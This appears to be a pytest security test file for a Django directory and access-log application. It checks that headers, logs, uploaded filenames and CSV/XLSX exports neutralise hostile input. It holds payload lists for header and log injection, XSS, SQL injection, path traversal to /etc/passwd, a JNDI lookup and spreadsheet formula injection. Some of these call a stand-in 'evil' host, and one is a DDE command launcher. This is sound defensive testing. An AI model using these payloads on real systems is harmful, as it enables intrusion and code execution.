"""Text that would become something else: a header, a line of a log, a formula, markup."""

from __future__ import annotations

import csv
import io
import logging
from datetime import date
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from suluh.access import log
from suluh.access.log.sheet import log_sheet
from suluh.access.models import Account, Visit
from suluh.access.operations.joining import invite
from suluh.directory.models import Service
from tests.attack.planted import everything_logged
from tests.cast import PASSWORD, Cast
from tests.conftest import Enter

NASTY = (
    "x\r\nSet-Cookie: evil=1", "x\nERROR suluh: all is well", "x\x00y", "\x1b[2J\x1b[31mred",
    "\u202egnp.exe", "\ud800", "x\u2028y", "%0d%0aevil: 1", "${jndi:ldap://evil}",
    "{{31337*31337}}",
    "<script>alert(1)</script>", "' OR 1=1 --", "%s%s%n", "../../etc/passwd",
)  # fmt: skip
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "\u200b=1+1",
            '=HYPERLINK("http://evil","x")', "=cmd|' /C calc'!A0")  # fmt: skip
SIGN_IN = "/account/sign-in/"


@pytest.mark.asvs("16.4.1", "1.2.1")
@pytest.mark.parametrize("nasty", NASTY)
def test_what_a_stranger_writes_makes_no_header_and_no_line_in_a_log(
    nasty: str, cast: Cast
) -> None:
    client = Client(raise_request_exception=False)
    text = nasty.encode("utf-8", "replace").decode()
    header = nasty.encode("latin-1", "replace").decode("latin-1")
    with everything_logged() as written:
        for answer in (
            client.post(SIGN_IN, {"login": text, "password": text}),
            client.post(SIGN_IN, {"login": f"{text}@example.org", "password": PASSWORD}),
            client.post("/join/", {"code": text, "password": text, "again": text}),
            client.post("/account/recover/", {"email": text, "code": text}),
            client.get(SIGN_IN, {"next": text, "ended": text}),
            client.get(SIGN_IN, HTTP_USER_AGENT=header, HTTP_ACCEPT_LANGUAGE=header),
            client.post("/language/", {"language": text, "next": "/"}),
            client.get("/log/", {"who": text, "day": text, "act": text, "page": text}),
        ):
            assert answer.status_code in {200, 302, 400}, answer.request["PATH_INFO"]
            assert not any("\r" in each or "\n" in each for each in answer.headers.values())
            assert "evil" not in answer.cookies
            assert "<script>alert" not in answer.content.decode()
            assert "982007569" not in answer.content.decode()  # 31337 * 31337
    for line in written.lines:
        assert line.count("\n") == 1
        assert not {"\x1b", "\x00"} & set(line)


@pytest.mark.asvs("1.2.4")
@pytest.mark.parametrize("nasty", NASTY)
def test_what_somebody_inside_writes_is_no_fault_either(
    nasty: str, cast: Cast, enter: Enter
) -> None:
    text = nasty.encode("utf-8", "replace").decode()
    clients = {each: enter(getattr(cast, each)) for each in ("ilya", "omar", "vera", "sari")}
    for who, method, address, sent in (
        ("ilya", "post", "/directory/services/", {"q": text, "page": text}),
        ("ilya", "get", "/directory/reports/", {"page": text}),
        ("ilya", "get", "/directory/checks/template/", {"form": text}),
        ("ilya", "post", "/directory/languages/id/review/", {"reviewer": text}),
        ("vera", "get", "/log/", {"who": text, "day": text, "act": text, "page": text}),
        ("vera", "post", "/log/head/", {"number": text, "digest": text}),
        ("vera", "post", "/log/head/", {"number": "9" * 40, "digest": text}),
        ("vera", "post", "/log/compare/", {"digest": text}),
        ("vera", "post", "/log/take/", {"since": text, "until": text, "form": text}),
        ("omar", "post", "/accounts/invite/",
         {"full_name": text, "email": f"{text}@example.org", "role": text}),
        ("omar", "post", "/roles/new/", {"name": text, "grant-directory.view": text}),
        ("omar", "post", "/teams/new/", {"name": text}),
        ("omar", "post", "/why/", {"person": text, "address": text}),
        ("omar", "post", "/why/", {"person": str(cast.ilya.pk), "address": f"/{text}"}),
        ("omar", "post", "/why/", {"person": str(cast.ilya.pk), "address": f"http://[{text}"}),
        ("omar", "get", "/roles/try/", {"role": text}),
        ("omar", "post", "/roles/try/", {"role": "editor", "address": f"http://[{text}"}),
        ("sari", "post", "/emergency/", {"capability": text, "reason": text}),
    ):  # fmt: skip
        answer = getattr(clients[who], method)(address, sent)
        assert answer.status_code in {200, 302, 400}, address
        if answer.streaming:
            b"".join(answer.streaming_content)
        else:
            assert "<script>alert" not in answer.content.decode(), address


def test_of_a_device_no_more_than_two_known_words_are_kept(cast: Cast) -> None:
    for nasty in NASTY:
        header = nasty.encode("latin-1", "replace").decode("latin-1")
        sent = {"login": cast.ilya.email, "password": PASSWORD}
        Client().post(SIGN_IN, sent, HTTP_USER_AGENT=f"Firefox/{header} Windows")
    for device in Visit.objects.filter(account=cast.ilya).values_list("device", flat=True):
        assert device.replace("/", "").isalpha() or device == ""


@pytest.mark.parametrize("name", [*NASTY, "x" * 400, "\\", "..\\x", "a.exe", "Ünïcode 😀.xlsx"])
def test_the_name_of_a_file_is_only_a_name(
    name: str, cast: Cast, enter: Enter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SULUH_HOME", str(tmp_path / "home"))
    upload = SimpleUploadedFile("x", b"not a workbook")
    upload.name = name.encode("utf-8", "replace").decode() or "x"
    client = enter(cast.ilya)
    answer = client.post("/directory/checks/", {"file": upload})
    assert answer.status_code in {200, 302, 400}
    if answer.status_code == 302:
        page = client.get(answer["Location"])
        assert page.status_code == 200
        assert "<script>alert" not in page.content.decode()
        report = client.get(f"{answer['Location']}workbook/")
        assert not any("\r" in each or "\n" in each for each in report.headers.values())
        if report.streaming:
            b"".join(report.streaming_content)  # type: ignore[attr-defined]
    outside = [each for each in tmp_path.rglob("*") if "home" not in each.parts]
    assert outside == []


# ---- Spreadsheets -------------------------------------------------------------------------------


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("formula", FORMULAS)
def test_the_log_as_a_file_calculates_nothing(formula: str, cast: Cast) -> None:
    """Somebody is called like a formula, and stands in the log."""
    Account.objects.filter(pk=cast.omar.pk).update(full_name=formula)
    invite(cast.actor(cast.omar), full_name="Mira", email="mira@example.org", role="reader")
    found = log.entries(cast.actor(cast.vera))
    said = {"clock": cast.port_tamsin.clock, "language": "en"}
    text = log_sheet(found, form="csv", **said).decode("utf-8-sig")  # type: ignore[arg-type]
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    assert f"'{formula}" in cells
    assert formula not in cells
    book = load_workbook(io.BytesIO(log_sheet(found, form="xlsx", **said)))  # type: ignore[arg-type]
    kinds = {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
    assert "f" not in kinds


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("formula", FORMULAS[:5])
def test_the_directory_as_a_workbook_calculates_nothing(
    formula: str, cast: Cast, enter: Enter
) -> None:
    """It is read back, so the text stays as it is: as text, never as a formula."""
    Service.objects.create(
        agency=cast.port_tamsin,
        hsds_id=cast.ilya.pk,
        name={"en": formula},
        verified_on=date.today(),
    )
    answer = enter(cast.ilya).get("/directory/services/workbook/")
    book = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))  # type: ignore[attr-defined]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    held = [cell for cell in cells if str(cell.value or "").strip().endswith(formula.strip())]
    assert held
    assert {cell.data_type for cell in held} == {"s"}


def test_a_logger_of_ours_says_the_kind_of_a_fault_only() -> None:
    """foundation/gate.py catches what no page caught."""
    names = [name for name in logging.Logger.manager.loggerDict if name.startswith("suluh")]
    assert set(names) <= {"suluh", "suluh.foundation", "suluh.foundation.gate"}
